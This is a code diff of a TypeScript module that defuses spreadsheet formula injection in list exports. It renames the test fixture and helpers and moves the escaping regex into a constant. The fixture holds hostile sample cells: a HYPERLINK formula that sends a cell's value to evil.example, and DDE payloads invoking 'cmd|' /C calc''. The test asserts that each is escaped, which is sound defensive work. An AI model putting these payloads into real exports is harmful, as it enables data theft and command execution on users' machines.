@@ -21,7 +21,7 @@ export type PdfFile = { pages: PdfPage[]; text: string; info: Record<string, unk
 
 type Piece = { str: string; transform: number[] }
 
-/** Resolves to the document of a quote under other settings than those of the service. */
+/** Draws the document of a quote under other settings than those of the service. */
 export async function quoteDocument(
   db: Queryable,
   settings: DocumentSettings,
@@ -67,16 +67,22 @@ type Cell = string | number | boolean | null
 type Row = Record<string, Cell>
 
 /** Texts, some of which a spreadsheet would run as a formula, and the cells that they must become. */
-export const texts: [string, string][] = [
-  ...quoted('=1+1', '=HYPERLINK("http://evil.example/?"&A1;"x")', '+49 30 1234567', '@SUM(A1:A9)', '-5'),
-  ...quoted("-2+3+cmd|' /C calc'!A0", "'=1", '＝1+1', '＋1', '－1', '＠SUM(A1)'),
-  // Of a spreadsheet that splits cells at semicolons, tabs or line breaks.
+export const cellSamples: [text: string, cell: string][] = [
+  ...withApostrophe(
+    '=1+1',
+    '=HYPERLINK("http://evil.example/?"&A1;"x")',
+    '+49 30 1234567',
+    '@SUM(A1:A9)',
+    '-5',
+  ),
+  ...withApostrophe("-2+3+cmd|' /C calc'!A0", "'=1", '＝1+1', '＋1', '－1', '＠SUM(A1)'),
+  // A spreadsheet may split a text at semicolons, tabs or line breaks, and so find a formula in the middle.
   ['x;=1+1', "x;'=1+1"],
   ['x;"=1+1"', `x;"'=1+1"`],
   [`";"''=cmd|' /C calc'!A0`, `";"'''=cmd|' /C calc'!A0`],
   ['a,+1;-2|@SUM(A1)', "a,'+1;'-2|'@SUM(A1)"],
   ['\t=1+1\r=2\n-3\r\n+4\u000b＝5', "\t'=1+1\r'=2\n'-3\r\n'+4\u000b'＝5"],
-  ...same(
+  ...unchanged(
     '1=1',
     ' =1',
     'e-mail; - or +49',
@@ -91,24 +97,37 @@ export const texts: [string, string][] = [
     '\\"',
     '\ufeffx',
   ),
-  ...same('Müller; "Söhne", KG', '"', '""', '","', "'", ',', ';', 'one\r\ntwo\nthree\rfour\n', 'end\r\n'),
-  ...same('尺寸 🪑 مرحبا', '\u2028\u0085\u000b'),
+  ...unchanged(
+    'Müller; "Söhne", KG',
+    '"',
+    '""',
+    '","',
+    "'",
+    ',',
+    ';',
+    'one\r\ntwo\nthree\rfour\n',
+    'end\r\n',
+  ),
+  ...unchanged('尺寸 🪑 مرحبا', '\u2028\u0085\u000b'),
 ]
 
-function quoted(...cells: string[]): [string, string][] {
+function withApostrophe(...cells: string[]): [string, string][] {
   return cells.map((cell) => [cell, `'${cell}`])
 }
 
-function same(...cells: string[]): [string, string][] {
+function unchanged(...cells: string[]): [string, string][] {
   return cells.map((cell) => [cell, cell])
 }
+
+/** A character with which a formula begins, at the start of a cell or after a separator, and behind quotes. */
+const FORMULA = /(^|[,;|\x01-\x1f])(["']*)([-=+@＝＋－＠])/g
 
 /** The records of a list as the rows of its export. */
 export function inCells(records: object[]): Row[] {
   const defused = (value: Cell | object) => {
     if (typeof value === 'object' && value !== null) return JSON.stringify(value)
     if (typeof value !== 'string') return value
-    return value.replace(/(^|[,;|\x01-\x1f])(["']*)([-=+@＝＋－＠])/g, "$1$2'$3")
+    return value.replace(FORMULA, "$1$2'$3")
   }
   return (records as Record<string, Cell | object>[]).map((record) =>
     Object.fromEntries(
@@ -121,7 +140,7 @@ export function inCells(records: object[]): Row[] {
 
 const addressFields = 'firstname lastname company street city region postcode country_id telephone vat_id'
 
-// An address has a column for each of its fields.
+// An address becomes a column for each of its fields.
 function cellsOf(name: string, value: object | Cell): [string, object | Cell][] {
   if (!name.endsWith('_address')) return [[name, value]]
   const { street, ...fields } = (value ?? {}) as Record<string, Cell>
@@ -132,9 +151,9 @@ function cellsOf(name: string, value: object | Cell): [string, object | Cell][] 
   return addressFields.split(' ').map((field) => [name.replace('address', field), cells[field] ?? null])
 }
 
-/** Asserts that these columns hold the cells of `texts`, in their order. */
+/** Asserts that these columns hold the cells of `cellSamples`, in their order. */
 export function assertDefused(rows: Row[], columns: string[]): void {
-  const cells = texts.map(([, cell]) => cell)
+  const cells = cellSamples.map(([, cell]) => cell)
   for (const name of columns) {
     const found = rows.map((row) => row[name])
     assert.deepEqual(found, cells, name)
